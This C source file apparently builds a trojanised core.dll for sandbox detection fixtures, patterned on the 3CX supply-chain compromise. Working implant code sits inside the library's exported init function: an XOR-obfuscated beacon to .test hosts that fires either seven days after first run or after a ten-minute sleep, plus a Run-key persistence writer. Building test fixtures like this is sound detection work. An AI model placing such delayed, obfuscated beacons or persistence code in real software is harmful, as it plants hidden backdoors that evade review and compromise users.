/* core.dll 1.1.0.0 with an implant, for the sandbox's time-travel and persistence fixtures
 * (acme-1.1-dormant.msi, acme-1.1-sleeper.msi, acme-1.1-runkey.msi). acme_core_init does what
 * core.c 1.1 does, after one of:
 *
 * -DIMPLANT_DORMANT  the 3CX pattern: the first run stamps the time (a FILETIME) in
 *                    %APPDATA%\Acme\firstrun.dat and does nothing else; a later run whose
 *                    clock is at least 7 days past the stamp resolves beacon.acme-telemetry.test
 *                    and connects to it on port 443. The host name is stored XOR 0x5A, so no
 *                    string scanner sees it.
 * -DIMPLANT_SLEEPER  Sleep(10 minutes), then resolves sync.acme-telemetry.test (XOR 0x5A) and
 *                    connects to it on port 443.
 * -DIMPLANT_RUNKEY   writes HKCU\Software\Microsoft\Windows\CurrentVersion\Run
 *                    "AcmeHelper" = "C:\Program Files\Acme Softphone\AcmePhone.exe" --tray.
 *
 * Only names under .test are contacted; every network wait is bounded. */
#define WIN32_LEAN_AND_MEAN
#include <winsock2.h>
#include <ws2tcpip.h>
#include <windows.h>
#include <string.h>

#define XOR_KEY 0x5A
#define STAMP_AGE (7ULL * 24 * 3600 * 10000000) /* 7 days in FILETIME units (100 ns) */
#define CONNECT_TIMEOUT_MS 2000

#if defined(IMPLANT_DORMANT) || defined(IMPLANT_SLEEPER)
#ifdef IMPLANT_DORMANT
/* "beacon.acme-telemetry.test", each byte XOR 0x5A */
static const unsigned char host_enc[] = {0x38, 0x3f, 0x3b, 0x39, 0x35, 0x34, 0x74, 0x3b, 0x39,
    0x37, 0x3f, 0x77, 0x2e, 0x3f, 0x36, 0x3f, 0x37, 0x3f, 0x2e, 0x28, 0x23, 0x74, 0x2e, 0x3f,
    0x29, 0x2e};
#else
/* "sync.acme-telemetry.test", each byte XOR 0x5A */
static const unsigned char host_enc[] = {0x29, 0x23, 0x34, 0x39, 0x74, 0x3b, 0x39, 0x37, 0x3f,
    0x77, 0x2e, 0x3f, 0x36, 0x3f, 0x37, 0x3f, 0x2e, 0x28, 0x23, 0x74, 0x2e, 0x3f, 0x29, 0x2e};
#endif

/* beacon resolves the decoded host and connects to it on 443 (bounded), sending one line. */
static void beacon(void)
{
    char host[sizeof host_enc + 1];
    for (size_t i = 0; i < sizeof host_enc; i++)
        host[i] = (char)(host_enc[i] ^ XOR_KEY);
    host[sizeof host_enc] = 0;

    WSADATA wsa;
    if (WSAStartup(MAKEWORD(2, 2), &wsa) != 0)
        return;
    struct addrinfo hints, *res = NULL;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, "443", &hints, &res) == 0 && res != NULL) {
        SOCKET s = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
        if (s != INVALID_SOCKET) {
            u_long nb = 1;
            ioctlsocket(s, FIONBIO, &nb);
            connect(s, res->ai_addr, (int)res->ai_addrlen);
            fd_set wr;
            FD_ZERO(&wr);
            FD_SET(s, &wr);
            struct timeval tv = {CONNECT_TIMEOUT_MS / 1000, 0};
            if (select(0, NULL, &wr, NULL, &tv) == 1) {
                static const char hello[] = "GET /c HTTP/1.0\r\n\r\n";
                send(s, hello, (int)sizeof hello - 1, 0);
            }
            closesocket(s);
        }
        freeaddrinfo(res);
    }
    WSACleanup();
}
#endif

#ifdef IMPLANT_DORMANT
static ULONGLONG now_filetime(void)
{
    FILETIME ft;
    GetSystemTimeAsFileTime(&ft);
    return ((ULONGLONG)ft.dwHighDateTime << 32) | ft.dwLowDateTime;
}

static void dormant(void)
{
    char path[MAX_PATH];
    DWORD n = GetEnvironmentVariableA("APPDATA", path, MAX_PATH - 32);
    if (n == 0 || n >= MAX_PATH - 32)
        return;
    strcat(path, "\\Acme");
    CreateDirectoryA(path, NULL);
    strcat(path, "\\firstrun.dat");
    ULONGLONG now = now_filetime(), stamp = 0;
    DWORD got = 0;
    HANDLE h = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    if (h == INVALID_HANDLE_VALUE) {
        h = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_NEW, 0, NULL);
        if (h != INVALID_HANDLE_VALUE) {
            WriteFile(h, &now, sizeof now, &got, NULL);
            CloseHandle(h);
        }
        return;
    }
    BOOL ok = ReadFile(h, &stamp, sizeof stamp, &got, NULL);
    CloseHandle(h);
    if (ok && got == sizeof stamp && now >= stamp && now - stamp >= STAMP_AGE)
        beacon();
}
#endif

#ifdef IMPLANT_RUNKEY
static void runkey(void)
{
    static const char cmd[] = "\"C:\\Program Files\\Acme Softphone\\AcmePhone.exe\" --tray";
    HKEY k;
    if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0,
                        NULL, 0, KEY_SET_VALUE, NULL, &k, NULL) == ERROR_SUCCESS) {
        RegSetValueExA(k, "AcmeHelper", 0, REG_SZ, (const BYTE *)cmd, sizeof cmd);
        RegCloseKey(k);
    }
}
#endif

__declspec(dllexport) int acme_core_init(const char *update_url)
{
#if defined(IMPLANT_DORMANT)
    dormant();
#elif defined(IMPLANT_SLEEPER)
    Sleep(10 * 60 * 1000);
    beacon();
#elif defined(IMPLANT_RUNKEY)
    runkey();
#else
#error "define IMPLANT_DORMANT, IMPLANT_SLEEPER or IMPLANT_RUNKEY"
#endif
    /* 1.1: checks that the update channel is https */
    int n = (int)strlen(update_url);
    if (strncmp(update_url, "https://", 8) != 0)
        return -1;
    return n * 3 + 11;
}
